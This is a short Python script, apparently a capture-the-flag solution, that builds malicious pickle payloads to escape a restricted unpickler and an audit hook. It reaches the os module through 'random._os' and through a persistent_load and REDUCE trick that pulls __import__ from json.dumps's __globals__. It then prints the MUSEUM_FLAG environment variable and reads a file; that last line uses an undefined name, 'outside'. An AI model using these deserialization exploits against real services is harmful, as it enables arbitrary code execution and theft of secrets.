# A pickle is a program for a small machine of its own: two of its opcodes fetch anything by name,
# and call anything. A guard of Python code never sees that program.
import json
import operator
import pickle


def text(word):
    return b"\x8c" + bytes([len(word)]) + word.encode()  # SHORT_BINUNICODE


def fetch():
    # STACK_GLOBAL takes a module and a name, which may have dots. The module is an allowed one;
    # what lies behind the first dot is another.
    return pickle.loads(b"\x80\x04" + text("random") + text("_os") + b"\x93" + b".")


def call():
    # Without a name to fetch: the reader asks us for objects that are not in the pickle, and the
    # machine calls the one with the other (REDUCE). The machine that is written in Python makes
    # that call from a function of the library's, to which no attribute is hidden.
    objects = {"getter": operator.attrgetter("__globals__"), "function": json.dumps}

    class Reader(operator.attrgetter("_Unpickler")(pickle)):
        def persistent_load(self, name):
            return objects[name]

    class Source:
        # Q: ask for the object of that name. \x85: a tuple of the last one. R: REDUCE. Stop.
        rest = b"\x80\x04" + text("getter") + b"Q" + text("function") + b"Q" + b"\x85R."

        def read(self, count):
            found, self.rest = self.rest[:count], self.rest[count:]
            return found

        def readline(self):
            return b""

    return Reader(Source()).load()["__builtins__"]["__import__"]("sys").modules["os"]


try:
    os = fetch()
except PermissionError:
    os = call()  # An audit hook hears of each fetch, but not of a call.

print(os.environ["MUSEUM_FLAG"])
print(os.read(os.open(outside["file"], os.O_RDONLY), 100).decode())
